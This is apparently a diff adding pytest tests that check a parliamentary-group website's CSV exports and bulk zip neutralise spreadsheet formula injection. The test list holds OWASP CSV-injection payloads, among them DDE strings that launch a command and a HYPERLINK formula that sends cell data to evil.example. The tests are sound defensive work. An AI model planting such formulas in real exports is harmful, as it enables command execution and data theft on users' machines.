@@ -278,3 +278,75 @@ def test_pages_that_may_hold_a_secret_are_never_compressed(client, db, url):
     assert response.status_code == 200
     assert "Content-Encoding" not in response
     assert b"<html" in response.content  # sent as it is, readable
+
+
+# --- 6. CSV formula injection -----------------------------------------------------------
+
+# OWASP's « CSV Injection » payloads: each starts with a character a spreadsheet reads
+# as the start of a formula.
+OWASP_PAYLOADS = [
+    "=1+2",
+    "+1+2",
+    "-1+2",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+]
+
+
+def csv_cells(response):
+    import csv
+    import io
+
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
+    return [cell for row in csv.reader(io.StringIO(body), delimiter=";") for cell in row]
+
+
+def assert_inert(cells, payload):
+    assert "'" + payload in cells, (payload, cells)
+    assert payload not in cells
+
+
+@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
+def test_csv_cells_that_start_like_a_formula_are_neutralised(client, db, payload):
+    from tests.factories import make_senator
+
+    group = make_group(name_fr=payload, slug="france-japon")
+    make_membership(group=group, senator=make_senator(last_name=payload, first_name="Marie"))
+    assert_inert(csv_cells(client.get("/fr/groupes/?format=csv")), payload)
+    assert_inert(csv_cells(client.get("/fr/senateurs/?format=csv")), payload)
+    members = csv_cells(client.get("/fr/groupes/france-japon/?format=csv"))
+    assert_inert(members, payload)
+    assert "Marie" in members  # ordinary text as it is
+
+
+def test_csv_neutralising_is_in_the_bulk_zip_and_the_cooperation_list(client, db, settings):
+    import csv
+    import io
+    import zipfile
+
+    from api.opendata import opendata_export
+    from tests.factories import make_agreement
+    from tests.factories import make_foreign_authority
+
+    payload = "=HYPERLINK(\"https://evil.example\")"
+    make_group(name_fr=payload)
+    make_agreement(foreign=[make_foreign_authority(name_fr=payload)])
+    assert_inert(csv_cells(client.get("/fr/cooperation/?format=csv")), payload)
+    with zipfile.ZipFile(opendata_export().path) as archive:
+        text = archive.read("organizations.csv").decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
+    assert_inert(cells, payload)
+
+
+def test_numbers_and_dates_are_not_neutralised():
+    from groups.exports import cell
+    from groups.exports import neutralised
+
+    for value in (-3, -2.5, datetime.date(2024, 1, 2), True, None):
+        assert neutralised(value, cell(value)) == cell(value)
+    assert neutralised("-3", "-3") == "'-3"  # text that looks like a number is text
+    assert neutralised("France-Japon", "France-Japon") == "France-Japon"
